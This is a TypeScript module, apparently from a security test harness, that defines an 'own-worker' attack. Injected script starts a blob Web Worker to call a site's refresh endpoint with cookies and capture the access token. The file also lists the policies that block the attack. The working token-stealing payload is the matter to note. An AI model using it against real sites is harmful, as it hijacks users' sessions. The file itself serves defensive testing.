// Threat: a script injected into the page starts a worker of its own and lets it call the refresh endpoint: code in a worker is not
// under the page's patched built-ins, and a worker may have another policy than the page. The attacker has one hole in the page's HTML.
import type { Attack } from '../attack.ts'
import { judgeToken, readBook, scriptReport } from './loot.ts'
import type { Payload } from '../world/payload.ts'

const script: Payload = async (kit) => {
  const code = `fetch('${location.origin}/api/auth/refresh', { method: 'POST', credentials: 'include',
        headers: { 'content-type': 'application/json' }, body: '{}' })
        .then((answer) => answer.json()).then((body) => postMessage(body.accessToken), () => postMessage(''))`
  const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })))
  const answered = new Promise<unknown>((resolve) => {
    worker.addEventListener('message', ({ data }) => resolve(data))
    worker.addEventListener('error', () => resolve(''))
    setTimeout(() => resolve(''), 3000)
  })
  kit.take('token', await answered)
}

export const ownWorker: Attack = {
  name: 'own-worker',
  group: 'script, late',
  title: 'Starts a worker of its own that calls the refresh endpoint',
  what: 'The script writes a small program into a blob and starts it as a worker; the worker asks for a token and tells it to the script.',
  why: 'A worker belongs to the origin like the page: the browser adds the same cookie to its requests.',
  stops:
    'A policy that allows no blob worker (worker-src) and no refresh from the page (connect-src), or an answer that needs a key.',
  script: { when: 'late', payload: script },
  control: 'tutorial',
  succeedsOn: ['tutorial', 'hallpass'],
  inapplicable: ({ refreshCookie }) => (refreshCookie === undefined ? 'there is no refresh endpoint' : undefined),
  async run(scene) {
    const page = await scene.signIn()
    await scene.injectLate(script)
    await readBook(page)
    return judgeToken(scene, page, await scriptReport(scene), 'its worker was given no token')
  },
}
